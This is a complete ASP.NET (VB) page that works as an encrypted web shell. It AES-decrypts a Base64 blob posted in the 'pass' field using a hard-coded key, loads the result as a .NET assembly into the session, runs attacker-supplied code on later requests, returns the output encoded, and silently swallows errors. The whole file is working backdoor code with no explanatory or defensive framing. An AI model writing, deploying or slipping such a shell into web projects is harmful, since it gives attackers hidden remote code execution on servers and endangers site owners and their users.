<%@ Page Language="VB" EnableSessionState="True" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
    Try
        Dim k As String = "9988776655443322"
        Dim data As Byte() = Convert.FromBase64String(Request.Form("pass"))
        data = New System.Security.Cryptography.RijndaelManaged().CreateDecryptor(Encoding.Default.GetBytes(k), Encoding.Default.GetBytes(k)).TransformFinalBlock(data, 0, data.Length)
        If Session("payload") Is Nothing Then
            Session("payload") = [Assembly].Load(data)
        Else
            Dim o As Object = CType(Session("payload"), [Assembly]).CreateInstance("LY")
            Dim ms As New System.IO.MemoryStream()
            o.Equals(Context) : o.Equals(ms) : o.Equals(data) : o.ToString()
            Response.Write(Convert.ToBase64String(ms.ToArray()))
        End If
    Catch
    End Try
End Sub
</script>
